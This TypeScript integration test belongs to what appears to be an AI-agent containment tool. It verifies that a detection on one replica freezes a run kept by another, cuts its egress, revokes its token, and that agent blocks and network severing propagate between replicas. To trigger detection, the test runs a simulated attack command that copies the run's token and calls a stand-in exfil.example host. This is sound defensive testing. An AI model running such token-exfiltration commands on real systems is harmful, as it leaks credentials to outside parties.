// Containment everywhere at once: two replicas sharing PostgreSQL, A detecting and running the
// playbooks, B keeping a run. The run's exfiltration through B's proxy is detected on A; A
// revokes the run's token itself and orders the freeze and the cut from B, which carries them
// out. A block decided on A refuses the agent's runs on B; sever-external on A cuts B's proxy.

import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { BIN } from '../support/cli.js';
import { detection } from '../support/detections.js';
import type { Json } from '../support/http.js';
import { skipPg } from '../support/pg.js';
import { sandboxReplicas, type Replica } from '../support/replicas.js';
import { sandboxSkip } from '../support/sandbox.js';
import { eventually, exited } from '../support/wait.js';

const skip = skipPg || sandboxSkip();

describe('containment across replicas', { skip }, () => {
  let r: Awaited<ReturnType<typeof sandboxReplicas>>;
  let a: Replica;
  let b: Replica;
  const children: ChildProcess[] = [];

  before(async () => {
    r = await sandboxReplicas('detect:\n  telemetry: off\n', 'detect:\n  enabled: false\n');
    ({ a, b } = r);
  });
  after(async () => {
    if (r) spawnSync(process.execPath, [BIN, 'destroy', '--all'], { cwd: r.b.dir.dir, timeout: 20_000 });
    await exited(children);
    await r?.cleanup();
  });

  const records = async (on: Replica): Promise<Json[]> =>
    ((await on.admin('GET', '/v1/audit/records?limit=10000')).json as { records: Json[] }).records;

  it("freezes and cuts a run kept by B on A's detection, by order; its token is refused everywhere", async () => {
    const c = spawn(
      process.execPath,
      [
        BIN,
        'run',
        '--agent',
        'far',
        '--',
        'sh',
        '-c',
        'cp /run/rampart/token /workspace/token; curl -s -o /dev/null http://a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8.exfil.example/; sleep 60',
      ],
      { cwd: b.dir.dir, stdio: 'ignore' },
    );
    children.push(c);
    const d = await detection(a.admin, 'exfiltration-random-hostname', 'far', 10_000);
    const run = d.run as string;
    const done = await eventually(
      async () => {
        const rs = (await records(a)).filter(
          (x) => x.action === 'event.respond.action' && x.details.data.run === run,
        );
        const byB = rs.filter((x) => x.details.data.order);
        const revoked = rs.some((x) => x.details.data.action === 'revoke_tokens');
        return byB.length >= 2 && revoked ? rs.map((x) => x.details.data) : undefined;
      },
      'the orders carried out by B',
      15_000,
    );
    const ordered = done
      .filter((x) => x.outcome === 'ordered')
      .map((x) => x.action)
      .sort();
    assert.deepEqual(ordered, ['cut_egress', 'freeze']);
    const carried = done
      .filter((x) => x.order)
      .map((x) => [x.action, x.outcome])
      .sort();
    assert.deepEqual(carried, [
      ['cut_egress', 'done'],
      ['freeze', 'done'],
    ]);
    assert.equal(done.find((x) => x.action === 'revoke_tokens')?.outcome, 'done');
    // From outside: frozen, the channel gone, the token refused by both replicas.
    assert.equal(
      readFileSync(join('/sys/fs/cgroup/freezer', r.cgroupParent, run, 'freezer.state'), 'utf8').trim(),
      'FROZEN',
    );
    const refused = await new Promise<boolean>((resolve) => {
      const s = connect(join(r.workspaces, '.egress', run, 'proxy.sock'));
      s.on('connect', () => resolve(false));
      s.on('error', () => resolve(true));
    });
    assert.equal(refused, true);
    const token = readFileSync(join(r.workspaces, run, 'token'), 'utf8').trim();
    for (const on of [a, b])
      assert.equal((await on.admin('GET', '/v1/whoami', undefined, token)).status, 401);
    assert.equal(spawnSync(process.execPath, [BIN, 'kill', run], { cwd: b.dir.dir }).status, 0);
  });

  it('a block and sever-external decided on A hold on B', async () => {
    assert.equal(
      (await a.admin('POST', '/v1/respond/block-agent', { agent: 'held', reason: 'INC-9' })).status,
      200,
    );
    const refused = await eventually(async () => {
      const res = spawnSync(process.execPath, [BIN, 'run', '--agent', 'held', '--', 'true'], {
        cwd: b.dir.dir,
        encoding: 'utf8',
      });
      return res.status === 1 ? res.stderr : undefined;
    }, "B refusing the blocked agent's run");
    assert.match(refused, /RAMPART_E_AGENT_BLOCKED/);
    assert.equal((await a.admin('POST', '/v1/respond/sever-external', { reason: 'drill' })).status, 200);
    await eventually(
      async () => ((await b.admin('GET', '/v1/egress')).json.kill_switch === true ? true : undefined),
      "B's proxy severed",
    );
    assert.equal(
      (await b.admin('POST', '/v1/respond/restore-external', { reason: 'drill over' })).status,
      200,
    );
    await eventually(
      async () => ((await a.admin('GET', '/v1/egress')).json.kill_switch === false ? true : undefined),
      "A's proxy restored",
    );
    assert.equal(
      (await b.admin('POST', '/v1/respond/unblock-agent', { agent: 'held', reason: 'cleared' })).status,
      200,
    );
  });
});
